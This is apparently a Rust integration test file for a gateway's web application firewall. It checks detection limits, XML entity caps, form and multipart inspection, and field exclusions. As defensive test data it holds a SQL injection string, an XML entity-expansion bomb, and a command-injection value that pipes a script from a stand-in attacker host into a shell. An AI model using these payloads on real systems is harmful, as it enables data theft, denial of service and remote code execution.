//! The WAF inspects everything a stream accepts, or refuses what it cannot
//! inspect: through the real binary, `up`'s demo stream with the default
//! limits, and a standalone gateway whose streams cap each kind of work.

mod common;

use common::gateway::*;
use common::*;
use std::path::Path;

const SQLI: &str = "1' UNION SELECT username, password FROM users--";

fn event_with_attributes(attributes: &serde_json::Map<String, serde_json::Value>) -> Vec<u8> {
    serde_json::json!({"id": "e1", "ts": "2026-11-21T10:00:00Z", "source": "t", "message": "m", "attributes": attributes})
        .to_string()
        .into_bytes()
}

#[test]
fn an_attack_behind_many_values_or_a_long_one_is_still_found() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let data = tmp.path().join("data");
    let up = Up::start(&data);
    let key = std::fs::read_to_string(data.join("gateway/demo-api-key")).expect("key").trim().to_owned();

    // 1,100 harmless keys, then the attack: once accepted and stored.
    let mut attributes: serde_json::Map<_, _> =
        (0..1100).map(|i| (format!("k{i:04}"), serde_json::Value::from("v"))).collect();
    let harmless = event_with_attributes(&attributes);
    let (status, _, body) = ingest(&up.gateway, "demo", Some(&key), "application/json", &harmless, &[]);
    assert_eq!(status, 202, "{body}");
    attributes.insert("zzzz".into(), SQLI.into());
    let attack = event_with_attributes(&attributes);
    let (status, _, body) = ingest(&up.gateway, "demo", Some(&key), "application/json", &attack, &[]);
    assert_eq!((status, json(&body)["reason"].as_str()), (403, Some("attack_signature")), "{body}");

    // The attack at the end of a 100 KiB value (past the old 64 KiB cut).
    let prose = "The quick brown fox jumps over the lazy dog. ".repeat(2300);
    let long = serde_json::json!({"id": "e2", "ts": "2026-11-21T10:00:00Z", "source": "t",
        "message": "m", "attributes": {"note": format!("{prose}{SQLI}")}});
    let long = long.to_string().into_bytes();
    assert!(long.len() > 100 * 1024);
    let (status, _, body) = ingest(&up.gateway, "demo", Some(&key), "application/json", &long, &[]);
    assert_eq!((status, json(&body)["reason"].as_str()), (403, Some("attack_signature")), "{body}");
    assert!(up.stop());
}

fn count(metrics: &str, line_start: &str) -> u64 {
    metrics
        .lines()
        .find(|l| l.starts_with(line_start))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

/// The metadata of every payload a stream quarantined.
fn quarantined_metas(store: &Path, stream: &str) -> Vec<serde_json::Value> {
    let mut found = Vec::new();
    let mut stack = vec![store.join("quarantine").join(stream)];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if path.to_string_lossy().ends_with(".meta.json") {
                found.push(json(&std::fs::read_to_string(&path).expect("meta")));
            }
        }
    }
    found
}

fn quarantined_with_reason(store: &Path, stream: &str, reason: &str) -> usize {
    quarantined_metas(store, stream).iter().filter(|meta| meta["reason"] == reason).count()
}

#[test]
fn each_inspection_cap_refuses_what_it_cannot_inspect() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let d = tmp.path();
    let port = free_port();
    let key_hash = hex::encode(openssl_sha256(b"k-caps"));
    let store = d.join("store");
    let stream = |name: &str, mode: &str| {
        format!(
            "[[streams]]\nname = \"{name}\"\nrate_per_sec = 1000.0\nburst = 1000\ncontent_types = [\"application/json\", \"application/xml\"]\n\
             expose_rules = true\n\
             [streams.waf]\nmode = \"{mode}\"\nmax_values = 50\nmax_value_bytes = 1024\nmax_depth = 4\n"
        )
    };
    let config = format!(
        "listen = \"127.0.0.1:{port}\"\n[store]\nkind = \"local\"\npath = \"{}\"\n\
         [[api_keys]]\nid = \"caps\"\nsha256 = \"{key_hash}\"\nstreams = [\"capped\", \"watched\"]\n{}{}",
        store.display(),
        stream("capped", "block"),
        stream("watched", "detect"),
    );
    let _gateway = start_alone("gateway", d, &config, port);
    let addr = format!("127.0.0.1:{port}");

    let values = |n: usize| serde_json::Value::Array((0..n).map(|i| format!("v{i}").into()).collect());
    let nested = |depth: usize| format!("{}\"x\"{}", "[".repeat(depth), "]".repeat(depth));
    // The path and the Content-Type header are values too: 48 in the
    // body make 50.
    let cases = [
        ("max_values", values(49).to_string()),
        ("max_value_bytes", serde_json::json!(["a".repeat(1025)]).to_string()),
        ("max_depth", nested(5)),
    ];
    for (cap, body) in &cases {
        let (status, _, reply) =
            ingest(&addr, "capped", Some("k-caps"), "application/json", body.as_bytes(), &[]);
        let problem = json(&reply);
        assert_eq!(status, 422, "{cap}: {reply}");
        assert_eq!(
            (problem["reason"].as_str(), problem["limit"].as_str()),
            (Some("uninspectable"), Some(*cap))
        );
        // In detect mode the same request is logged and stored.
        let (status, _, reply) =
            ingest(&addr, "watched", Some("k-caps"), "application/json", body.as_bytes(), &[]);
        assert_eq!(status, 202, "detect mode, {cap}: {reply}");
    }
    // Right at every cap: inspected in full, accepted.
    for body in [values(48).to_string(), serde_json::json!(["a".repeat(1024)]).to_string(), nested(4)] {
        let (status, _, reply) =
            ingest(&addr, "capped", Some("k-caps"), "application/json", body.as_bytes(), &[]);
        assert_eq!(status, 202, "{reply}");
    }
    // An XML entity expanding past the document's own size (a quadratic
    // blowup: 1 KB referred to 500 times in a 3 KB body) has a cap of its
    // own, in every stream.
    let bomb = format!("<!DOCTYPE r [<!ENTITY a \"{}\">]><r>{}</r>", "B".repeat(1000), "&a;".repeat(500));
    let (status, _, reply) = ingest(&addr, "capped", Some("k-caps"), "application/xml", bomb.as_bytes(), &[]);
    assert_eq!((status, json(&reply)["limit"].as_str()), (422, Some("entity_expansion")), "{reply}");
    assert_eq!(quarantined_with_reason(&store, "capped", "uninspectable"), 4, "each refusal quarantined");
    // This stream exposes the rule ids of an attack-signature 403.
    let attack = serde_json::json!([SQLI]).to_string();
    let (status, _, reply) =
        ingest(&addr, "capped", Some("k-caps"), "application/json", attack.as_bytes(), &[]);
    let problem = json(&reply);
    assert_eq!(status, 403, "{reply}");
    assert!(
        problem["rules"].as_array().is_some_and(|r| !r.is_empty()) && problem["incident"].is_string(),
        "{reply}"
    );

    let (_, _, metrics) = http(&addr, "GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", b"");
    let metrics = String::from_utf8_lossy(&metrics);
    for (cap, _) in &cases {
        for stream in ["capped", "watched"] {
            let line =
                format!("cartorio_gateway_waf_uninspectable_total{{stream=\"{stream}\",cap=\"{cap}\"}}");
            assert_eq!(count(&metrics, &line), 1, "{line}");
        }
    }
    let refused = "cartorio_gateway_requests_total{stream=\"capped\",outcome=\"uninspectable\"}";
    assert_eq!(count(&metrics, refused), 4, "{metrics}");
}

/// A stream that takes HTML forms and multipart uploads takes them (they
/// were refused 415: no magic number to match), and the WAF reads their
/// fields.
#[test]
fn form_and_multipart_bodies_are_taken_and_inspected() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let d = tmp.path();
    let port = free_port();
    let key_hash = hex::encode(openssl_sha256(b"k-forms"));
    let config = format!(
        "listen = \"127.0.0.1:{port}\"\n[store]\nkind = \"local\"\npath = \"{}\"\n\
         [[api_keys]]\nid = \"forms\"\nsha256 = \"{key_hash}\"\nstreams = [\"forms\"]\n\
         [[streams]]\nname = \"forms\"\nrate_per_sec = 1000.0\nburst = 1000\n\
         content_types = [\"application/x-www-form-urlencoded\", \"multipart/form-data\"]\n",
        d.join("store").display()
    );
    let _gateway = start_alone("gateway", d, &config, port);
    let addr = format!("127.0.0.1:{port}");
    let form = "application/x-www-form-urlencoded";
    let post = |media: &str, body: &[u8]| ingest(&addr, "forms", Some("k-forms"), media, body, &[]).0;
    assert_eq!(post(form, b"name=Maria+Silva&city=S%C3%A3o+Paulo"), 202);
    // SQLI, as a form writes it.
    assert_eq!(post(form, b"name=1%27+UNION+SELECT+username%2C+password+FROM+users--"), 403);
    let multipart = |field: &str| {
        format!(
            "--b0undary\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{field}\r\n\
             --b0undary\r\nContent-Disposition: form-data; name=\"scan\"; filename=\"scan.bin\"\r\n\
             Content-Type: application/octet-stream\r\n\r\n\x01\x02binary\r\n--b0undary--\r\n"
        )
    };
    let media = "multipart/form-data; boundary=b0undary";
    assert_eq!(post(media, multipart("signed at the notary").as_bytes()), 202);
    assert_eq!(post(media, multipart(SQLI).as_bytes()), 403);
}

#[test]
fn exclusions_let_a_field_carry_what_its_operator_says_and_nothing_else() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let d = tmp.path();
    let port = free_port();
    let key_hash = hex::encode(openssl_sha256(b"k-docs"));
    let stream = |exclusion: &str| {
        format!(
            "listen = \"127.0.0.1:{port}\"\n[store]\nkind = \"local\"\npath = \"{}\"\n\
             [[api_keys]]\nid = \"docs\"\nsha256 = \"{key_hash}\"\nstreams = [\"packages\"]\n\
             [[streams]]\nname = \"packages\"\nrate_per_sec = 1000.0\nburst = 1000\n\
             content_types = [\"application/json\"]\nexpose_rules = true\n\
             [[streams.waf.exclusions]]\n{exclusion}\n",
            d.join("store").display()
        )
    };
    // A package registry's README field carries install instructions.
    let readme =
        "Install:\n\n    curl -sSL https://example.com/install.sh | sh\n\nthen `rm -rf ~/.cache/tool`.";
    let package = serde_json::json!({"name": "tool", "version": "1.0.0", "readme": readme}).to_string();
    let addr = format!("127.0.0.1:{port}");
    {
        let _gateway = start_alone("gateway", d, &stream("fields = [\"other\"]\nclasses = [\"rce\"]"), port);
        let (status, _, reply) =
            ingest(&addr, "packages", Some("k-docs"), "application/json", package.as_bytes(), &[]);
        assert_eq!(status, 403, "an exclusion of another field changes nothing: {reply}");
        // The quarantined metadata says where each rule fired: what an
        // exclusion names.
        let meta = quarantined_metas(&d.join("store"), "packages");
        let findings = meta.first().map(|m| m["findings"].clone()).unwrap_or_default();
        let fields: Vec<&str> =
            findings.as_array().into_iter().flatten().filter_map(|f| f["field"].as_str()).collect();
        assert!(!fields.is_empty() && fields.iter().all(|f| *f == "readme"), "{findings}");
    }
    let _gateway = start_alone("gateway", d, &stream("fields = [\"readme\"]\nclasses = [\"rce\"]"), port);
    let (status, _, reply) =
        ingest(&addr, "packages", Some("k-docs"), "application/json", package.as_bytes(), &[]);
    assert_eq!(status, 202, "{reply}");
    // Every other field, and every other class in the README, still blocks.
    let attacks = [
        serde_json::json!({"name": SQLI, "readme": readme}),
        serde_json::json!({"name": "tool", "readme": format!("{readme}\n{SQLI}")}),
        serde_json::json!({"name": "tool", "notes": "; curl -sSL https://evil.example/x | sh"}),
    ];
    for attack in attacks {
        let (status, _, reply) =
            ingest(&addr, "packages", Some("k-docs"), "application/json", attack.to_string().as_bytes(), &[]);
        assert_eq!(status, 403, "{attack}: {reply}");
    }
    drop(_gateway);

    // What the gateway cannot check it refuses to start with.
    for (exclusion, said) in [
        ("fields = [\"readme\"]\nrules = [99999]", "no rule 99999"),
        ("fields = [\"readme\"]\nclasses = [\"shell\"]", "no class"),
        ("locations = [\"cookie\"]", "no location"),
        ("rules = []", "would turn the WAF off"),
    ] {
        let file = d.join("bad.toml");
        std::fs::write(&file, stream(exclusion)).expect("config");
        let out = std::process::Command::new(BIN)
            .args(["gateway", "--config"])
            .arg(&file)
            .output()
            .expect("run the gateway");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success() && stderr.contains(said), "{exclusion}: {stderr}");
        // Refused before the port is bound: a supervisor or a load balancer
        // never sees it listening.
        let logs = format!("{stderr}{}", String::from_utf8_lossy(&out.stdout));
        assert!(!logs.contains("listening"), "{exclusion}: {logs}");
    }
}
